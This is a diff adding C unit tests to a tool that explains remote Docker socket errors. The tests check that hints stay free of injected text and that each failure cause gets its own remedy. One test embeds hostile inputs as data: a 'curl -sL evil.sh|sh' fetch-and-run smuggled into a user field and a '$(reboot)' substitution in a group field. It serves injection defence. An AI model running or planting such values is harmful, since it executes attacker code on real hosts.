@@ -198,6 +198,54 @@ static void who_is_not_permitted_is_told_what_is_missing(void **state)
         "AllowStreamLocalForwarding");
 }
 
+static void explain(const char *reply, const char *known, struct err *e)
+{
+    struct profile *p = profile_at("/run/d.sock");
+    struct remote_socket_answer a;
+
+    *e = (struct err)ERR_INIT;
+    remote_socket_parse(reply, &a);
+    remote_socket_explain(&a, p, known, e);
+    profile_free(p);
+}
+
+/* A start file there can print what it likes, and people paste hints. */
+static void a_hint_holds_no_word_of_the_remote_shell_that_is_more_than_a_name(void **state)
+{
+    struct err e;
+
+    (void)state;
+    explain("docktether user x;curl -sL evil.sh|sh\ndocktether denied /run/d.sock\n"
+            "docktether mode srw-rw---- 1 root docker 0\n",
+            "", &e);
+    assert_null(strstr(e.hint, "curl"));
+    assert_string_equal(e.fix, "");
+    assert_non_null(strstr(e.hint, "group"));
+    explain("docktether user deploy\ndocktether denied /run/d.sock\n"
+            "docktether mode srw-rw---- 1 root $(reboot) 0\n",
+            "", &e);
+    assert_null(strstr(e.hint, "reboot"));
+    assert_string_equal(e.fix, "");
+}
+
+static void each_cause_has_its_own_remedy(void **state)
+{
+    struct err e;
+
+    (void)state;
+    explain("docktether usable /run/d.sock\n", "sshd says \"open failed\"", &e);
+    assert_non_null(strstr(e.hint, "AllowTcpForwarding"));
+    assert_non_null(strstr(e.hint, "DisableForwarding"));
+    assert_non_null(strstr(e.hint, "restrict"));
+    assert_null(strstr(e.hint, "PATH"));
+    explain("docktether usable /run/d.sock\n", "docker says: sh: docker: not found (exit status 127)", &e);
+    assert_non_null(strstr(e.hint, "PATH"));
+    explain("docktether usable /run/d.sock\n", "docker says: Cannot connect to the Docker daemon at unix:///",
+            &e);
+    assert_string_equal(e.fix, "sudo systemctl start docker");
+    assert_null(strstr(e.hint, "Forwarding"));
+}
+
 static void without_an_answer_the_likely_places_are_tried(void **state)
 {
     struct profile *p = profile_at("/run/d.sock");
@@ -250,6 +298,8 @@ int main(void)
         cmocka_unit_test(all_the_known_places_are_asked_for),
         cmocka_unit_test(what_others_print_is_passed_over),
         cmocka_unit_test(who_is_not_permitted_is_told_what_is_missing),
+        cmocka_unit_test(a_hint_holds_no_word_of_the_remote_shell_that_is_more_than_a_name),
+        cmocka_unit_test(each_cause_has_its_own_remedy),
         cmocka_unit_test(without_an_answer_the_likely_places_are_tried),
         cmocka_unit_test(an_ending_is_words_and_a_number),
     };
